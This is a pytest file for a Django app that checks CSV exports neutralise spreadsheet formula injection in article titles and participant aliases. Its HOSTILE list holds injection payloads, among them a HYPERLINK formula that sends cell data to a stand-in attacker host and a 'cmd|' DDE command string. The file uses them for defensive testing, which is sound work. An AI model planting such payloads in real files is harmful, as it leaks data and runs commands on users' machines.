"""CSV exports never hand a spreadsheet a formula: a cell that starts with =, +, -, @, tab or
carriage return gets a leading apostrophe (OWASP's advice); JSON keeps the text as it is."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\tTabbed =1+1",
    "\rReturned =1+1",
]


def csv_values(response) -> list[str]:
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_article_titles_cannot_start_a_formula(client, build, value):
    build.article("The 13th round ended.", title=value, round=13)
    cells = csv_values(client.get(reverse("articles:article-list") + "?format=csv"))
    assert "'" + value in cells
    assert value not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # JSON is data, not a spreadsheet: the title is exported unchanged.
    response = client.get(reverse("articles:article-list") + "?format=json")
    rows = json.loads(b"".join(response.streaming_content))
    assert rows[0]["title"] == value


def test_an_alias_list_cannot_start_a_formula(client, build):
    build.participant("Pavel Korin", "=1+2", "P. Korin")
    cells = csv_values(client.get(reverse("rounds:participant-list") + "?format=csv"))
    assert "'=1+2; P. Korin" in cells


def test_ordinary_values_are_unchanged(client, build):
    build.article("Text.", title="Talks resume in Astana", round=13)
    cells = csv_values(client.get(reverse("articles:article-list") + "?format=csv"))
    assert "Talks resume in Astana" in cells
    assert "13" in cells
